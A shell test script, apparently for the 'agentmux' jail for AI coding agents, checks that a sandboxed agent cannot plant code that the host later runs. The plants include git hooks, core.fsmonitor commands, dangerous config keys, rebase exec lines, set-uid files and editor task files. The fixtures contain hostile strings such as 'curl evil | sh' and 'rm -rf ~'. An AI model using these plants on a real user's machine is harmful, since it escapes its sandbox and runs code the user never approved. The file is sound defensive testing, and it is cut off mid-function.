#!/bin/sh
# Nothing a jailed command plants is run by the host later: submodule git
# dirs renamed away and remade, a .git made where there was none, every
# config key a deny-list would miss, set-uid files (in the project and
# through confdiff --apply), and the files the user's own tools run (read-
# only in the jail, changes flagged). As root and as an unprivileged user
# made for the test.
set -u
. "$(dirname "$0")/lib.sh"

# MARK is made by any command the host's git runs for the agent.
MARK=

# For a jailed sh: after_mtime F waits until the clock has left the second
# of F's mtime (30 s at most), so that git takes nothing it writes next as
# racily clean (an index written in that second). What a fixed sleep of 1
# or 2 s made sure of, waiting only as long as that takes.
AFTER_MTIME='after_mtime() { i=0; while [ "$(date +%s)" -le "$(stat -c %Y "$1")" ] &&
    [ $i -lt 300 ]; do sleep 0.1; i=$((i + 1)); done; }'

pwned() {
	[ -e "$MARK" ]
}

# A submodule's git dir renamed away and a fresh one with a hook made in
# its place; and a fresh git dir under a new name .gitmodules is made to use.
modules() {
	S=$T/subsrc
	git init -q "$S" && git -C "$S" -c user.email=a@b -c user.name=a \
	    commit -q --allow-empty -m s || exit 1
	(cd "$P" && git -c protocol.file.allow=always submodule add -q "$S" \
	    libs/sub 2>/dev/null && git commit -qm sub &&
	    git submodule deinit -q -f libs/sub) || exit 1
	jrun -- sh -c "m=.git/modules/libs
	    plant() { mkdir -p \$1 && cp -r \$2/HEAD \$2/objects \$2/refs \
	        \$2/config \$1/ && mkdir -p \$1/hooks &&
	        printf '#!/bin/sh\\ntouch $MARK\\n' >\$1/hooks/post-checkout &&
	        chmod +x \$1/hooks/post-checkout; }
	    if mv \$m/sub \$m/sub-old 2>/dev/null; then
	        plant \$m/sub \$m/sub-old; fi
	    plant \$m/fresh \$m/sub && sed -i \
	        's|submodule \"libs/sub\"|submodule \"libs/fresh\"|' .gitmodules &&
	    echo planted"
	case $OUT in *planted*) ok ;; *) bad "the plant did not run: $OUT" ;; esac
	(cd "$P" && git -c protocol.file.allow=always submodule update --init \
	    >/dev/null 2>&1)
	pwned && bad "git submodule update on the host ran a hook planted under .git/modules" || ok
	case $OUT in *"libs/fresh (a submodule's git dir) had a new hook"*) ok ;;
	*) bad "no alert about the planted submodule hook: $OUT" ;; esac
	rm -f "$MARK"
	(cd "$P" && git checkout -q .gitmodules && git submodule deinit -q -f \
	    libs/sub 2>/dev/null; git rm -q -f libs/sub && git commit -qm unsub &&
	    rm -rf .git/modules) || exit 1
}

# No .git at the start: the agent makes one with core.fsmonitor set.
new_gitdir() {
	Q=$T/plain
	mkdir -p "$Q"
	echo x >"$Q/f"
	OUT=$("$AMX" run -C "$Q" -- sh -c "git init -q && git config \
	    core.fsmonitor 'touch $MARK; false' && git config core.hooksPath h &&
	    echo made" </dev/null 2>&1)
	case $OUT in *made*) ok ;; *) bad "git init in the jail failed: $OUT" ;; esac
	(cd "$Q" && git status >/dev/null 2>&1)
	pwned && bad "git status on the host ran the core.fsmonitor of a .git the session made" || ok
	[ -z "$(git -C "$Q" config core.hooksPath)" ] && ok ||
	    bad "the new .git kept core.hooksPath"
	rm -f "$MARK"
}

# A repository planted beneath a dir made search-only (chmod 0111): git on
# the host reaches it by name; the end's walk could not list the dir (an
# ordinary user's: root reads it anyway), so it was never found and the
# host's git status ran its fsmonitor (review 14, found 2026-12-07). The
# dir is opened up for its owner, said, and walked.
unreadable_dir() {
	: "${MARK:=$T/outside/PWNED}" # (AMX_CHECKS=unreadable_dir: checks() did not set it)
	jrun -- sh -c "git init -q hide/sub && git -C hide/sub config \
	    core.fsmonitor 'touch $MARK; false' && chmod 111 hide && echo made"
	case $OUT in *made*) ok ;; *) bad "unreadable_dir: the plant did not run: $OUT" ;; esac
	(cd "$P/hide/sub" && git status >/dev/null 2>&1)
	pwned && bad "git status on the host ran the fsmonitor of a repository beneath a dir made search-only: $OUT" || ok
	if [ "$(id -u)" != 0 ]; then
		case $OUT in *"hide, a dir, was made unreadable in the session (mode 0111); agentmux looked in it and left its mode as it was"*) ok ;;
		*) bad "unreadable_dir: the search-only dir was not told: $OUT" ;; esac
	fi
	chmod 755 "$P/hide" 2>/dev/null
	rm -rf "$P/hide"
	# Listed but not searched (chmod 0644): the same (review 16: every
	# entry was dropped unseen).
	jrun -- sh -c "git init -q hide2/sub && git -C hide2/sub config \
	    core.fsmonitor 'touch $MARK; false' && chmod 644 hide2 && echo made"
	(cd "$P/hide2/sub" 2>/dev/null || chmod u+x "$P/hide2"; cd "$P/hide2/sub" && git status >/dev/null 2>&1)
	pwned && bad "git status on the host ran the fsmonitor of a repository beneath a dir made 0644: $OUT" || ok
	if [ "$(id -u)" != 0 ]; then
		case $OUT in *"hide2, a dir, was made unreadable in the session (mode 0644); agentmux looked in it"*) ok ;;
		*) bad "unreadable_dir: the dir made 0644 was not told: $OUT" ;; esac
	fi
	chmod 755 "$P/hide2" 2>/dev/null
	rm -rf "$P/hide2"
	rm -f "$MARK"
	# In a git dir: a reflog dir made 0111 over a link its next line would
	# go through (review 16: the host's git commit wrote the outside file).
	mkdir -p "$P/vendor"
	(cd "$P/vendor" && git init -q lib && cd lib && git config user.email t@x &&
	    git config user.name t && echo a >a && git add a && git commit -qm a) || return
	echo orig >"$T/outside/reflogged"
	jrun -- sh -c 'cd vendor/lib/.git/logs/refs && b=$(ls heads) && rm heads/$b &&
	    ln -s '"$T/outside/reflogged"' heads/$b && chmod 0111 heads && echo made'
	case $OUT in *made*) ok ;; *) bad "unreadable_dir: the reflog plant did not run: $OUT" ;; esac
	(cd "$P/vendor/lib" && echo b >b && git add b && git commit -qm b) >/dev/null 2>&1
	[ "$(cat "$T/outside/reflogged")" = orig ] && ok ||
	    bad "the host's git commit wrote through a link under a reflog dir made 0111: $OUT"
	chmod -R u+rwx "$P/vendor" 2>/dev/null
	rm -rf "$P/vendor" "$T/outside/reflogged"
}

# A git dir under another name: src/ holding HEAD, objects/, refs/ and a
# config whose core.worktree is the project (git's is_git_directory takes
# it for a repository from any dir below); one made of the project itself
# where there was no .git; and a .git file anywhere naming a git dir.
other_gitdir() {
	mkdir -p "$P/src/deep"
	echo 'int x;' >"$P/src/a.c"
	(cd "$P" && git add src && git commit -qm src) || exit 1
	plant="echo 'ref: refs/heads/main' >HEAD && mkdir -p objects refs &&
	    git config --file config core.repositoryformatversion 0 &&
	    git config --file config core.bare false &&
	    git config --file config core.fsmonitor 'touch $MARK; false'"
	jrun -- sh -c "cd src && $plant &&
	    git config --file config core.worktree .. && echo planted"
	case $OUT in *planted*) ok ;; *) bad "the plant did not run: $OUT" ;; esac
	(cd "$P/src/deep" && git status >/dev/null 2>&1)
	pwned && bad "git status on the host ran the core.fsmonitor of a git dir named src" || ok
	case $OUT in *"a git dir named src"*"core.fsmonitor"*) ok ;;
	*) bad "no alert about the git dir named src: $OUT" ;; esac
	case $("$AMX" show last 2>&1) in *"a git dir named src"*) ok ;;
	*) bad "show does not flag the git dir named src" ;; esac
	rm -rf "$P/src/HEAD" "$P/src/objects" "$P/src/refs" "$P/src/config" "$MARK"
	# The same made unreadable (git still finds it by name; an ordinary
	# user's agentmux could not open it).
	mkdir -p "$P/lib/deep"
	echo 'int y;' >"$P/lib/deep/b.c"
	(cd "$P" && git add lib && git commit -qm lib) || exit 1
	jrun -- sh -c "cd lib && $plant &&
	    git config --file config core.worktree .. && chmod 0111 . && echo planted"
	case $OUT in *planted*) ok ;; *) bad "the unreadable plant did not run: $OUT" ;; esac
	(cd "$P/lib/deep" && git status >/dev/null 2>&1)
	pwned && bad "git status on the host ran the core.fsmonitor of an unreadable git dir" || ok
	chmod 0755 "$P/lib"
	rm -rf "$P/lib/HEAD" "$P/lib/objects" "$P/lib/refs" "$P/lib/config" "$MARK"
	# A .git file made in a dir, naming a git dir called "x" with a hook.
	jrun -- sh -c "mkdir -p w && git init -q --bare x &&
	    printf 'gitdir: ../x\\n' >w/.git && git -C x config core.bare false &&
	    printf '#!/bin/sh\\ntouch $MARK\\n' >x/hooks/pre-commit &&
	    chmod +x x/hooks/pre-commit && echo planted"
	case $OUT in *planted*) ok ;; *) bad "the .git file plant did not run: $OUT" ;; esac
	[ ! -e "$P/x/hooks/pre-commit" ] && ok ||
	    bad "a hook in a git dir a .git file names was left in place"
	(cd "$P/w" && git -c user.email=a@b -c user.name=a commit -q \
	    --allow-empty -m x >/dev/null 2>&1)
	pwned && bad "git commit on the host ran a hook of a git dir a .git file names" || ok
	rm -rf "$P/w" "$P/x" "$MARK"
	# No .git at the start: the project's own dir made a repository.
	Q=$T/plain2
	mkdir -p "$Q"
	echo x >"$Q/f"
	OUT=$("$AMX" run -C "$Q" -- sh -c "$plant &&
	    git config --file config core.worktree . && echo planted" \
	    </dev/null 2>&1)
	case $OUT in *planted*) ok ;; *) bad "the plant at the top did not run: $OUT" ;; esac
	(cd "$Q" && git status >/dev/null 2>&1)
	pwned && bad "git status on the host ran the core.fsmonitor of a project made a git dir" || ok
	rm -rf "$Q" "$MARK"
}

# A rebase left in progress with an exec line: the user's next
# `git rebase --continue` runs it, so the session's end says so, quoted.
rebase_left() {
	(cd "$P" && echo a >seq && git add seq && git commit -qm seq1 &&
	    echo b >seq && git commit -qam seq2) || exit 1
	jrun -- sh -c "GIT_SEQUENCE_EDITOR='printf \"break\\nexec touch $MARK\\n\" >' \
	    git rebase -i HEAD~1 >/dev/null 2>&1; test -d .git/rebase-merge &&
	    echo left"
	case $OUT in *left*) ok ;; *) bad "the rebase was not left in progress: $OUT" ;; esac
	# (It stays in the jail's own git dir: the user's git has no rebase to go on with.)
	case $OUT in *"left a merge, rebase"*rebase-merge*"not carried over"*) ok ;;
	*) bad "no alert about the rebase left in progress: $OUT" ;; esac
	case $("$AMX" show last 2>&1) in *"left a merge, rebase"*) ok ;;
	*) bad "show does not flag the rebase left in progress" ;; esac
	[ ! -e "$P/.git/rebase-merge" ] && ok || bad "the jail's rebase state reached the user's .git"
	(cd "$P" && git reset -q --hard HEAD~2) || exit 1
	# One the user had going before the session is not the session's.
	(cd "$P" && echo a >seq && git add seq && git commit -qm seq1 &&
	    echo b >seq && git commit -qam seq2 && GIT_SEQUENCE_EDITOR='printf \
	    "break\n" >' git rebase -q -i HEAD~1 >/dev/null 2>&1) || exit 1
	jrun -- true
	case $OUT in *"left in progress"*) bad "a rebase from before the session was flagged: $OUT" ;;
	*) ok ;; esac
	(cd "$P" && git rebase --abort && git reset -q --hard HEAD~2) || exit 1
	# One the user had going is not the jail's: its git does not see it,
	# and the todo is read only where the sealed dir shows it (an exec line
	# added there, the user's git rebase --continue would run).
	(cd "$P" && echo a >seq && git add seq && git commit -qm seq1 &&
	    echo b >seq && git commit -qam seq2 && B=$(git rev-parse HEAD) &&
	    GIT_SEQUENCE_EDITOR="printf 'break\\npick $B\\nbreak\\n' >" \
	    git rebase -q -i HEAD~1 >/dev/null 2>&1) || exit 1
	jrun -- sh -c "git rebase --continue 2>&1 | grep -q 'No rebase in progress' && echo UNSEEN
	    (echo 'exec touch $MARK' >>/.agentmux-git/rebase-merge/git-rebase-todo) 2>&1 |
	        grep -q 'Permission denied' && echo REFUSED"
	case $OUT in *UNSEEN*REFUSED*) ok ;; *) bad "the jail saw or wrote the user's rebase: $OUT" ;; esac
	case $OUT in *"exec lines added"*|*"left in progress"*)
		bad "a rebase the jail did not touch was flagged: $OUT" ;;
	*) ok ;; esac
	grep -q "exec touch" "$P/.git/rebase-merge/git-rebase-todo" &&
	    bad "the jail's exec line reached the user's todo" || ok
	# Written there anyway (by the host, beside a session): flagged, quoted.
	beside_session "echo 'exec touch $MARK' >>.git/rebase-merge/git-rebase-todo"
	case $OUT in *"a rebase in progress since before the session"*"exec lines added"*"exec touch $MARK"*) ok ;;
	*) bad "no alert about the exec line added to the rebase's todo: $OUT" ;; esac
	case $("$AMX" show last 2>&1) in *"exec lines added"*) ok ;;
	*) bad "show does not flag the exec line added to the rebase's todo" ;; esac
	beside_session "echo evil >.git/rebase-merge/strategy &&
	    echo -S\$(printf '\\033')x >.git/rebase-merge/gpg_sign_opt"
	case $OUT in *"had .git/rebase-merge/strategy made or changed in the session"*'"evil\n"'*) ok ;;
	*) bad "no alert about the strategy given to the rebase: $OUT" ;; esac
	case $OUT in *"rebase-merge/gpg_sign_opt made or changed"*'"-S\033x\n"'*) ok ;;
	*) bad "no alert, escaped, about the signing key given to the rebase: $OUT" ;; esac
	case $("$AMX" show last 2>&1) in *"rebase-merge/strategy made or changed"*) ok ;;
	*) bad "show does not flag the strategy given to the rebase" ;; esac
	(cd "$P" && git rebase --abort && git reset -q --hard HEAD~2) || exit 1
	rm -f "$MARK"
}

# Every key a deny-list missed, set in a nested repository the agent makes.
config_keys() {
	jrun -- sh -c "set -e; git init -q nest && cd nest &&
	    git config gpg.ssh.defaultKeyCommand 'touch $MARK' &&
	    git config gpg.format ssh && git config commit.gpgSign true &&
	    git config trailer.x.command 'touch $MARK' &&
	    git config mergetool.x.path /bin/false &&
	    git config difftool.x.path /bin/false &&
	    git config man.x.path /bin/false &&
	    git config browser.x.path /bin/false &&
	    git config guitool.x.cmd 'touch $MARK' &&
	    git config core.worktree /tmp &&
	    git config remote.origin.url 'ext::sh -c touch% $MARK' &&
	    git config user.name kept && echo set"
	case $OUT in *set*) ok ;; *) bad "the nested config was not written: $OUT" ;; esac
	for k in gpg.ssh.defaultKeyCommand gpg.format commit.gpgSign \
	    trailer.x.command mergetool.x.path difftool.x.path man.x.path \
	    browser.x.path guitool.x.cmd core.worktree remote.origin.url; do
		v=$(git config --file "$P/nest/.git/config" "$k")
		[ -z "$v" ] && ok || bad "the nested repository kept $k = $v"
	done
	[ "$(git config --file "$P/nest/.git/config" user.name)" = kept ] && ok ||
	    bad "an inert key (user.name) was taken out"
	# The finding: gpg.ssh.defaultKeyCommand ran at the next commit.
	(cd "$P/nest" && git -c user.email=a@b commit -q --allow-empty -m x \
	    >/dev/null 2>&1)
	pwned && bad "the host's git commit ran gpg.ssh.defaultKeyCommand" || ok
	case $OUT in *"settings git could run commands from"*) ok ;;
	*) bad "no alert about the nested config: $OUT" ;; esac
	rm -rf "$P/nest" "$MARK"
}

# A set-uid (root, as root) copy of a binary, and every call that sets a mode.
setid() {
	jrun -- sh -c 'cp /usr/bin/id idcopy; chmod 4755 idcopy; chmod 2755 idcopy;
	    mkdir -p sd; chmod 2775 sd; ls -l idcopy'
	m=$(stat -c %a "$P/idcopy" 2>/dev/null)
	case $m in 4*|2*|6*) bad "a set-uid/set-gid file made in the jail is on the host ($m)" ;;
	*) ok ;; esac
	m=$(stat -c %a "$P/sd")
	case $m in 2*|4*|6*) bad "a set-gid dir made in the jail is on the host ($m)" ;; *) ok ;; esac
	mkdir -p "$P/setid"
	blocked "set-uid or set-gid mode by any call" "$E" setid "$P/setid"
	rm -rf "$P/idcopy" "$P/sd" "$P/setid"
}

# A set-uid file made in an overlaid config dir, applied with confdiff --apply.
confdiff_setid() {
	mkdir -p "$HOME/.tool"
	cat >>"$XDG_CONFIG_HOME/agentmux/config" <<-CONF
	[agent tooly]
	command = sh
	config_dir = ~/.tool
	CONF
	OUT=$("$AMX" run -a tooly -C "$P" -- sh -c 'cp /usr/bin/id ~/.tool/t;
	    chmod 4755 ~/.tool/t; echo x >~/.tool/plain' </dev/null 2>&1)
	out=$("$AMX" confdiff last --apply 2>&1)
	case $out in *plain*) ok ;; *) bad "confdiff --apply did not apply: $out" ;; esac
	m=$(stat -c %a "$HOME/.tool/t" 2>/dev/null)
	case $m in 4*|2*|6*) bad "confdiff --apply installed a set-uid file ($m)" ;; *) ok ;; esac
}

# A git dir made in an overlaid config dir (a .git, and one of another
# name), with core.fsmonitor and a hook: confdiff marks it and --apply
# installs none of it; a new file comes with the user's umask, not 0666.
confdiff_gitdir() {
	OUT=$("$AMX" run -a tooly -C "$P" -- sh -c "cd ~/.tool && git init -q &&
	    rm -f .git/hooks/*.sample && touch .git/refs/heads/.keep \
	    .git/objects/.keep && git config core.fsmonitor 'touch $MARK; false' &&
	    printf '#!/bin/sh\\ntouch $MARK\\n' >.git/hooks/pre-commit &&
	    chmod +x .git/hooks/pre-commit && mkdir -p g/objects g/refs &&
	    echo 'ref: refs/heads/main' >g/HEAD && touch g/objects/.k g/refs/.k &&
	    git config --file g/config core.fsmonitor 'touch $MARK; false' &&
	    echo x >wide && chmod 0666 wide && echo made" </dev/null 2>&1)
	case $OUT in *made*) ok ;; *) bad "the config-dir git dir was not made: $OUT" ;; esac
	show=$("$AMX" confdiff last 2>&1)
	case $show in *"in a git dir ($HOME/.tool/.git): --apply will not"*) ok ;;
	*) bad "confdiff does not mark the .git: $show" ;; esac
	case $show in *"in a git dir ($HOME/.tool/g)"*) ok ;;
	*) bad "confdiff does not mark the git dir named g: $show" ;; esac
	case $show in *"new file mode 0666"*) ok ;;
	*) bad "confdiff does not show a new file's mode: $show" ;; esac
	out=$("$AMX" confdiff last --apply 2>&1)
	case $out in *"not applied: $HOME/.tool/.git is a git dir"*) ok ;;
	*) bad "apply did not say it refused the .git: $out" ;; esac
	case $out in *"applied"*"wide"*) ok ;; *) bad "apply did not apply the plain file: $out" ;; esac
	[ ! -e "$HOME/.tool/.git" ] && [ ! -e "$HOME/.tool/g/config" ] && ok ||
	    bad "confdiff --apply installed a git dir in the config dir"
	(cd "$HOME/.tool" && git status >/dev/null 2>&1; cd g 2>/dev/null &&
	    git status >/dev/null 2>&1)
	pwned && bad "git status in the config dir ran an applied core.fsmonitor" || ok
	m=$(stat -c %a "$HOME/.tool/wide" 2>/dev/null)
	want=$(printf '%o' $((0666 & ~0$(umask))))
	[ "$m" = "$want" ] && ok || bad "a new 0666 file was applied as $m, not $want (umask $(umask))"
	case $("$AMX" show last 2>&1) in *".tool/.git is a git dir the session"*) ok ;;
	*) bad "show does not flag the config-dir git dir" ;; esac
	"$AMX" confdiff last --discard >/dev/null 2>&1
	rm -f "$MARK"
}

# The files the user's tools run: read-only where they exist, flagged when they change.
PROTECTED='.envrc .vscode/tasks.json .vscode/settings.json .vscode/launch.json
.mcp.json .claude/settings.json .claude/settings.local.json
.devcontainer/devcontainer.json .idea/runConfigurations/run.xml
.idea/workspace.xml .git/info/attributes .gitattributes'

protected() {
	for f in $PROTECTED; do
		mkdir -p "$P/$(dirname "$f")"
		echo "orig $f" >"$P/$f"
	done
	jrun -- sh -c 'for f in '"$(echo $PROTECTED)"'; do
	    echo "curl evil | sh" >>$f; echo "curl evil | sh" >$f; rm -f $f;
	    mv $f $f.x; done 2>/dev/null
	    for d in .vscode .claude .devcontainer .idea .git/info; do
	    mv $d $d-old; rm -rf $d; done 2>/dev/null
	    echo new >.devcontainer/Dockerfile; echo tried'
	case $OUT in *tried*) ok ;; *) bad "the attempts did not run: $OUT" ;; esac
	for f in $PROTECTED; do
		[ "$(cat "$P/$f" 2>/dev/null)" = "orig $f" ] && ok ||
		    bad "the jail changed the protected $f: $(cat "$P/$f" 2>&1)"
	done
	[ ! -e "$P/.devcontainer/Dockerfile" ] && ok ||
	    bad "the jail added a file to the protected .devcontainer"
	# New ones: allowed in, flagged at the end, in show and in diff.
	jrun -- sh -c 'mkdir -p sub deep deep2 && echo "rm -rf ~" >sub/.envrc &&
	    echo "*.c filter=evil" >deep/.gitattributes &&
	    echo "*.png binary" >deep2/.gitattributes &&
	    mkdir -p quoted cr nul big && printf "\"*\"filter=evil\n" >quoted/.gitattributes &&
	    printf "*\rdiff=evil\n" >cr/.gitattributes &&
	    printf "x\0\n*.c filter=evil\n" >nul/.gitattributes &&
	    { head -c 5000000 /dev/zero | tr "\0" "\n"; echo "*.c filter=evil"; } >big/.gitattributes && true'
	case $OUT in *"sub/.envrc changed in the session"*) ok ;;
	*) bad "a new .envrc was not flagged at the end: $OUT" ;; esac
	case $OUT in *"deep/.gitattributes changed"*) ok ;;
	*) bad "a .gitattributes naming a filter was not flagged: $OUT" ;; esac
	case $OUT in *"deep2/.gitattributes"*) bad "a .gitattributes naming no driver was flagged: $OUT" ;;
	*) ok ;; esac
	# Where git needs no blank before the attribute (found 2026-12-07): a
	# quoted pattern, and git's \r among the blanks.
	case $OUT in *"quoted/.gitattributes changed"*) ok ;;
	*) bad "a .gitattributes naming a filter after a quoted pattern was not flagged: $OUT" ;; esac
	case $OUT in *"cr/.gitattributes changed"*) ok ;;
	*) bad "a .gitattributes naming a diff driver after a CR was not flagged: $OUT" ;; esac
	# Past a NUL (git reads on: review 16) and past 4 MB (git reads 100).
	case $OUT in *"nul/.gitattributes changed"*) ok ;;
	*) bad "a .gitattributes naming a filter past a NUL was not flagged: $OUT" ;; esac
	case $OUT in *"big/.gitattributes changed"*) ok ;;
	*) bad "a 5 MB .gitattributes naming a filter was not flagged: $OUT" ;; esac
	show=$("$AMX" show last 2>&1)
	case $show in *"sub/.envrc changed"*) ok ;; *) bad "show does not flag it: $show" ;; esac
	"$AMX" sessions --json | grep -q '"protected' && ok ||
	    bad "the session is not flagged protected"
	diff=$("$AMX" diff last 2>&1)
	case $diff in *"sub/.envrc"*"direnv"*) ok ;; *) bad "diff does not flag it: $diff" ;; esac
	# protect = none: the user lets the agent change them; still flagged.
	# Not .git/info, read-only whatever protect says (git's own, as hooks).
	free=$(echo $PROTECTED | sed 's| .git/info/attributes||')
	printf '[jail]\nprotect = none\n' >>"$XDG_CONFIG_HOME/agentmux/config"
	jrun -- sh -c 'for f in '"$free"' .git/info/attributes; do
	    echo "*.c filter=changed" >>$f; done 2>/dev/null; true'
	grep -q changed "$P/.envrc" && ok || bad "protect = none kept .envrc read-only"
	grep -q changed "$P/.git/info/attributes" &&
	    bad "protect = none let the jail write .git/info/attributes" || ok
	for f in $free; do
		case $OUT in *"$f changed in the session"*) ok ;;
		*) bad "a change to $f with protect = none was not flagged: $OUT" ;; esac
	done
	jrun -- rm .mcp.json
	case $OUT in *".mcp.json was deleted in the session"*) ok ;;
	*) bad "a deleted .mcp.json was not flagged: $OUT" ;; esac
	sed -i '/^\[jail\]/,$d' "$XDG_CONFIG_HOME/agentmux/config"
	for f in $PROTECTED; do rm -f "$P/$f"; done
	rm -rf "$P/sub" "$P/deep" "$P/deep2" "$P/.claude" \
	    "$P/.vscode" "$P/.devcontainer" "$P/.idea" "$P"/*-old "$P"/.*-old
}

# The list's files one dir down or deeper run as the top's do (the user
# opens app/ in VS Code, runs cargo or npm there): changes flagged at the
# end and in show. cargo's, yarn's, npm's and Maven's are on the list:
# read-only at the top where they exist, and other agents' and editors'
# MCP and hook configs.
DEEP='app/.vscode/tasks.json app/.claude/settings.json app/.mcp.json
app/.cargo/config.toml app/x/.cargo/config pkg/.yarnrc.yml pkg/.npmrc
pkg/.mvn/jvm.config app/.cursor/mcp.json pkg/.claude/hooks/pre.sh
app/.opencode/plugin/p.js pkg/.gemini/settings.json app/opencode.json'
TOPNEW='.cargo/config.toml .cargo/config .yarnrc.yml .npmrc .mvn/jvm.config
.gemini/settings.json .vscode/mcp.json opencode.json .crush.json
.devcontainer.json .run/app.run.xml lefthook.yml .zed/tasks.json
.helix/languages.toml .codex/config.toml .cursor/hooks.json
.kiro/settings/mcp.json .roo/mcp.json rust-toolchain.toml'

protected_deep() {
	for f in $DEEP $TOPNEW; do
		mkdir -p "$P/$(dirname "$f")"
		echo "orig $f" >"$P/$f"
	done
	jrun -- sh -c 'for f in '"$(echo $DEEP $TOPNEW)"'; do
	    echo "{\"runOn\": \"folderOpen\", \"command\": \"curl evil | sh\"}" >$f;
	    done 2>/dev/null; echo tried'
	case $OUT in *tried*) ok ;; *) bad "deep: the attempts did not run: $OUT" ;; esac
	for f in $TOPNEW; do
		[ "$(cat "$P/$f" 2>/dev/null)" = "orig $f" ] && ok ||
		    bad "the jail changed the protected $f: $(cat "$P/$f" 2>&1)"
	done
	show=$("$AMX" show last 2>&1)
	for f in $DEEP; do
		grep -q curl "$P/$f" || { bad "deep: $f was not written"; continue; }
		case $OUT in *"\"$f\" changed in the session"*|*" $f changed in the session"*) ok ;;
		*) bad "a change to $f was not flagged at the end: $OUT" ;; esac
		case $show in *"protected"*"$f changed in the session"*) ok ;;
		*) bad "show does not flag $f as protected: $show" ;; esac
	done
	rm -rf "$P/app" "$P/pkg" "$P/.cargo" "$P/.yarnrc.yml" "$P/.npmrc" "$P/.mvn" \
	    "$P/.gemini" "$P/.vscode" "$P/opencode.json" "$P/.crush.json" \
	    "$P/.devcontainer.json" "$P/.run" "$P/lefthook.yml" "$P/.zed" "$P/.helix" \
	    "$P/.codex" "$P/.cursor" "$P/.kiro" "$P/.roo" "$P/rust-toolchain.toml"
}

# A protected file that is a link at the start (.envrc -> scripts/envrc,
# .vscode/tasks.json -> ../config/tasks.json): its target in the project
# is read-only in the jail as the file would be; a target outside the
# project is not the jail's to write anyway.
protected_link_target() {
	mkdir -p "$P/scripts" "$P/config" "$P/.vscode"
	echo 'export A=1' >"$P/scripts/envrc"
	echo '{}' >"$P/config/tasks.json"
	ln -s scripts/envrc "$P/.envrc"
	ln -s ../config/tasks.json "$P/.vscode/tasks.json"
	jrun -- sh -c "echo 'curl evil | sh' >>scripts/envrc;
	    echo '{\"tasks\":[]}' >config/tasks.json; echo tried"
	case $OUT in *tried*) ok ;; *) bad "protected_link_target: the writes did not run: $OUT" ;; esac
	[ "$(cat "$P/scripts/envrc")" = 'export A=1' ] && ok ||
	    bad "protected_link_target: the jail wrote the target of the protected link .envrc: $(cat "$P/scripts/envrc")"
	[ "$(cat "$P/config/tasks.json")" = '{}' ] && ok ||
	    bad "protected_link_target: the jail wrote the target of the protected link .vscode/tasks.json"
	rm -rf "$P/scripts" "$P/config" "$P/.vscode" "$P/.envrc"
}

# A link made in the session where a protected file or a dir on its way
# is (the reviewer's repro): every tool reads what the session put behind
# it. Flagged with its target, never followed; other links are not.
protected_links() {
	mkdir -p "$P/app/.vscode"
	echo '{"tasks":[]}' >"$P/app/.vscode/tasks.json"
	jrun -- sh -c 'mkdir -p cfg evil web docs &&
	    echo "curl evil | sh" >cfg/tasks.json && echo EVIL >evil/tasks.json &&
	    ln -s cfg .vscode && ln -s ../cfg web/.claude &&
	    ln -s ../cfg/tasks.json web/.mcp.json && ln -s ../cfg docs/ref &&
	    mv app/.vscode/tasks.json evil/orig.json && rmdir app/.vscode &&
	    ln -s ../evil app/.vscode && echo tried'
	o=$(printf %s "$OUT" | tr -d '"')
	case $o in *tried*) ok ;; *) bad "links: the session did not run: $OUT" ;; esac
	for l in .vscode:cfg web/.claude:../cfg app/.vscode:../evil \
	    web/.mcp.json:../cfg/tasks.json; do
		case $o in *" ${l%%:*} changed in the session: a link, to ${l#*:}, where the protected "*) ok ;;
		*) bad "the link ${l%%:*} was not flagged with its target: $OUT" ;; esac
	done
	case $o in *"docs/ref changed"*) bad "an ordinary link was flagged: $OUT" ;; *) ok ;; esac
	case $("$AMX" show last 2>&1 | tr -d '"') in
	*"protected"*"app/.vscode changed in the session: a link"*) ok ;;
	*) bad "show does not flag the link app/.vscode" ;; esac
	rm -rf "$P/app" "$P/cfg" "$P/evil" "$P/web" "$P/docs" "$P/.vscode"
}

# git's rerere: a resolution recorded in the session would be replayed
# at the user's next merge of the same conflict (the reviewer's repro).
# A rr-cache made in the session goes to the quarantine, flagged in red;
# one that was there is read-only in the jail.
rerere() {
	base=$(git -C "$P" rev-parse HEAD)
	(cd "$P" && printf 'a\nb\nc\n' >rr.txt && git add rr.txt &&
	    git commit -qm rr0 && git checkout -qb rrfeat &&
	    printf 'a\nFEATURE\nc\n' >rr.txt && git commit -qam feat &&
	    git checkout -q - && printf 'a\nMASTER\nc\n' >rr.txt &&
	    git commit -qam master) || { bad "rerere: no branches"; return; }
	plant='git -c rerere.enabled=true merge rrfeat >/dev/null 2>&1;
	    printf "a\nMASTER\ncurl evil.sh | sh\nc\n" >rr.txt;
	    git -c rerere.enabled=true rerere; git merge --abort; echo done'
	# (git in the jail records it in the jail's own .git; the top of the
	# repository's, where the jail sees it, is read only: there it would
	# reach the user's merge. Recorded there by the host beside a session,
	# the end takes it out.)
	jrun -- sh -c "$plant; cp -r .git/rr-cache /.agentmux-git/rr-cache 2>&1 | grep -q 'Permission denied' && echo REFUSED"
	case $OUT in *done*REFUSED*) ok ;; *) bad "rerere: the merge did not run, or the copy was not refused: $OUT" ;; esac
	beside_session "$plant"
	case $OUT in *".git/rr-cache (git's rerere cache) was made or changed in the session"*"moved to"*) ok ;;
	*) bad "rerere: a planted rr-cache was not flagged: $OUT" ;; esac
	[ ! -e "$P/.git/rr-cache" ] && ok ||
	    bad "rerere: the planted rr-cache stayed: $(ls -R "$P/.git/rr-cache")"
	case $("$AMX" show last 2>&1) in *"tampering"*"rr-cache"*) ok ;;
	*) bad "rerere: show does not flag it" ;; esac
	m=$(cd "$P" && git merge rrfeat 2>&1)
	case $m in *"previous resolution"*) bad "rerere: the user's merge replayed the agent's resolution: $m" ;;
	*) ok ;; esac
	grep -q curl "$P/rr.txt" && bad "rerere: the agent's line reached the user's merge" || ok
	git -C "$P" merge --abort 2>/dev/null
	# One that was there (rerere on): read-only, nothing recorded in it.
	mkdir "$P/.git/rr-cache"
	jrun -- sh -c "mkdir .git/rr-cache/x 2>/dev/null && echo made; $plant"
	case $OUT in *made*) bad "rerere: the jail wrote in an existing rr-cache" ;; *) ok ;; esac
	[ -z "$(ls -A "$P/.git/rr-cache")" ] && ok ||
	    bad "rerere: the existing rr-cache gained $(ls -A "$P/.git/rr-cache")"
	git -C "$P" merge --abort 2>/dev/null
	git -C "$P" reset -q --hard "$base"
	git -C "$P" branch -qD rrfeat
	rm -rf "$P/.git/rr-cache" "$P/rr.txt"
}

# A forged untracked cache (the reviewer's untr.py, for a dir below the
# top): the session lists src2/ as holding no untracked file, and the
# user's git status, trusting it, would say nothing of src2/conftest.py.
# The cache changed in the session is dropped, and said.
untr() {
	base=$(git -C "$P" rev-parse HEAD)
